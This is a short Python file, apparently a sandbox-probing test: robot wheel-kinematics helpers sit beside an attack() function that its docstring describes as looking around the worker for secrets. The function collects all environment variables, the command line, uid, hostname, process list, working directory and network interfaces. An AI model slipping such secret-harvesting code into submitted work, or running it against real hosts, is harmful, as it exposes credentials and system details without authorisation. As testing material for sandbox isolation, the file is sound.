"""Attack: look around the worker (environment, argv, uid, file system, process list) for secrets."""
import os
import socket


def uni_to_diff(robot, v, w):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return (2 * v + w * L) / (2 * R), (2 * v - w * L) / (2 * R)


def diff_to_uni(robot, vel_r, vel_l):
    R = robot.wheel_radius
    L = robot.wheel_base_length
    return R / 2 * (vel_r + vel_l), R / L * (vel_r - vel_l)


def attack(paths=(), **args):
    with open('/proc/self/cmdline', 'rb') as f:
        cmdline = f.read().decode(errors='replace')
    return {
        'environ': dict(os.environ),
        'cmdline': cmdline,
        'uid': os.getuid(),
        'hostname': socket.gethostname(),
        'exists': {p: os.path.exists(p) for p in paths},
        'pids': sorted(int(p) for p in os.listdir('/proc') if p.isdigit()),
        'cwd': os.getcwd(),
        'interfaces': sorted(line.split(':')[0].strip() for line in open('/proc/self/net/dev').readlines()[2:]),
    }
